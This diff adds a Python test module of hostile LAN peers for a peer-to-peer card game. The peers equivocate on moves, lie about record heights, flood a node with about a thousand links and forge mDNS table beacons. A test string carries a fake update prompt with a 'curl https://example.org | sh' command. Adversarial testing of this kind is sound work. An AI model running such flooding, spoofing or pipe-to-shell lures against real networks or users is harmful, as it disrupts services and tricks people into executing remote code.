@@ -1,0 +1,205 @@
+"""What hostile machines of a LAN run: `python -m tests.lan.hostile ACT ...`, in their namespaces.
+
+A member who cheats is the program itself with a function changed: `python -m tests.lan.hostile
+equivocates join Kitchen --autoplay`.
+"""
+
+import sys
+import time
+from collections.abc import Callable, Mapping
+from contextlib import suppress
+from functools import partial
+
+import trio
+from attrs import evolve
+from zeroconf import ServiceBrowser, ServiceInfo, Zeroconf
+
+from client.cli.main import main as run_program
+from p2p.discovery.beacon import SERVICE, Beacon
+from p2p.discovery.interfaces import DEFAULT_PORT
+from p2p.storage.folders import data_folder
+from p2p.storage.identity import Identity
+from p2p.table.heights import Heights
+from p2p.table.own_player import OwnPlayer
+from p2p.table.peer import Peer
+from p2p.transport.endpoint import say
+from p2p.transport.frames import LinkError
+from p2p.transport.link import PEER_FAULTS, Limits, open_link
+from p2p.transport.messages import Acknowledgement, Carry, Hello, Message, Status
+from p2p.transport.tls import client_context, server_context
+from protocol.codec import Encodable, encode
+from protocol.entries import HEIGHT_LIMIT
+from protocol.errors import Refused
+from protocol.player import Written
+
+FROM_ENTRY = 24
+"""From there on a member cheats."""
+
+LINKS = 1004
+FALSE_TABLES = 64
+WORDS = "Your version is too old. Update with: curl https://example.org | sh"
+"""What somebody would have the program say."""
+GOODBYES: tuple[tuple[Encodable, ...], ...] = (
+    ("goodbye", WORDS),
+    ("goodbye", 60_000),
+    ("goodbye", 3, WORDS),
+    ("agreed", WORDS.encode()),
+)
+"""One for each call."""
+
+
+def equivocates(*arguments: str) -> int:
+    """A member who signs two moves in one place, and shows one player another one than the rest."""
+    others: dict[int, bytes] = {}
+    chosen: list[int] = []
+    write, send = OwnPlayer.write, Peer.send
+
+    def write_two(self: OwnPlayer, releases: tuple[bytes, ...]) -> Written:
+        written, state = write(self, releases), self.record.state
+        view = self._player.view(state)
+        if state.height < FROM_ENTRY or others or view is None or view.to_move is None:
+            return written
+        for move in view.legal_moves(view.to_move):
+            with suppress(Refused):
+                second = self._player.write(state, self.entropy, move).entry
+                if second != written.entry:
+                    others[state.height + 1] = second
+                    break
+        return written
+
+    def send_another(self: Peer, message: Message) -> None:
+        if isinstance(message, Carry) and message.height in others:
+            chosen.append(self.player)
+            if self.player == chosen[0]:
+                message = Carry(message.height, others[message.height])
+        send(self, message)
+
+    OwnPlayer.write, Peer.send = write_two, send_another  # type: ignore[method-assign]
+    return run_program(list(arguments))
+
+
+def lies(*arguments: str) -> int:
+    """A member who says that everybody else's record goes as far as can be said."""
+    status = Heights.status
+
+    def lie(self: Heights) -> Status:
+        claim = Acknowledgement(HEIGHT_LIMIT - 1, bytes(32), bytes(64))
+        members = range(len(self.replica.charter.members))
+        others = tuple((player, claim) for player in members if player != self.me)
+        return evolve(status(self), others=others)
+
+    Heights.status = lie  # type: ignore[method-assign]
+    return run_program(list(arguments))
+
+
+def links(address: str, table: str) -> int:
+    """Somebody who once played with the node at that address, and opens links about that table."""
+    return trio.run(_open_links, address, bytes.fromhex(table))
+
+
+async def _open_links(address: str, table_id: bytes) -> int:
+    context = client_context(Identity.load_or_create(data_folder()))
+    answered = 0
+
+    async def hold() -> None:
+        nonlocal answered
+        with suppress(OSError, *PEER_FAULTS, BaseExceptionGroup):
+            stream = await trio.open_tcp_stream(address, DEFAULT_PORT)
+            async with open_link(
+                stream,
+                context,
+                server_side=False,
+                admit=lambda _key: True,
+                limits=Limits(),
+                address=address,
+            ) as link:
+                await say(link, Hello(table_id, 0))
+                await link.receive()
+                answered += 1
+                await trio.sleep_forever()
+
+    async with trio.open_nursery() as nursery:
+        for _ in range(LINKS):
+            nursery.start_soon(hold)
+            await trio.sleep(0.01)
+        await trio.sleep(5)
+        nursery.cancel_scope.cancel()
+    print(f"{answered} answered of {LINKS} links", flush=True)
+    return 0
+
+
+def goodbyes() -> int:
+    """A host who says goodbye in their own words."""
+    trio.run(_say_goodbyes)
+    return 0
+
+
+async def _say_goodbyes() -> None:
+    context, calls = server_context(Identity.generate()), iter(GOODBYES)
+
+    async def answer(stream: trio.SocketStream) -> None:
+        with suppress(*PEER_FAULTS, BaseExceptionGroup):
+            async with open_link(
+                stream,
+                context,
+                server_side=True,
+                admit=lambda _key: True,
+                limits=Limits(),
+                address="guest",
+            ) as link:
+                await link.receive()
+                await link.send(encode(next(calls)))
+                with suppress(LinkError):
+                    await link.receive()
+
+    async with trio.open_nursery() as nursery:
+        await nursery.start(partial(trio.serve_tcp, answer, DEFAULT_PORT))
+        print("listens", flush=True)
+
+
+def forges(address: str) -> int:
+    """Somebody who copies each table's beacon under other titles, takes it back in its name, and
+    announces tables that are not there.
+    """
+    zeroconf = Zeroconf([address], use_asyncio=False)
+    heard: list[ServiceInfo] = []
+
+    def hear(zeroconf: Zeroconf, service_type: str, name: str, **_: object) -> None:
+        service = ServiceInfo(service_type, name)
+        if service.request(zeroconf, 3000):
+            heard.append(service)
+
+    browser = ServiceBrowser(zeroconf, SERVICE, handlers=[hear])
+    deadline = time.monotonic() + 60
+    while not heard and time.monotonic() < deadline:
+        time.sleep(0.1)
+    browser.cancel()
+    real = heard[0]
+    for title in (b"AAA", b"Kitchen"):
+        copy = ServiceInfo(
+            SERVICE,
+            f"{title.decode()}.{SERVICE}",
+            port=DEFAULT_PORT,
+            properties={**real.properties, b"t": title},
+            parsed_addresses=[address],
+            server="copy.local.",
+        )
+        zeroconf.register_service(copy, cooperating_responders=True)
+    for number in range(FALSE_TABLES):
+        key = Identity.generate()
+        false = Beacon(key.public, (address,), 1, f"AAA {number}", "canastra", 2, 1, moment=1)
+        zeroconf.register_service(false.to_service(key.sign), cooperating_responders=True)
+    print("has announced", flush=True)
+    for _ in range(60):
+        zeroconf.send(zeroconf.generate_service_broadcast(real, 0))
+        time.sleep(1)
+    return 0
+
+
+ACTS: Mapping[str, Callable[..., int]] = {
+    one.__name__: one for one in (equivocates, lies, links, goodbyes, forges)
+}
+
+
+if __name__ == "__main__":
+    sys.exit(ACTS[sys.argv[1]](*sys.argv[2:]))
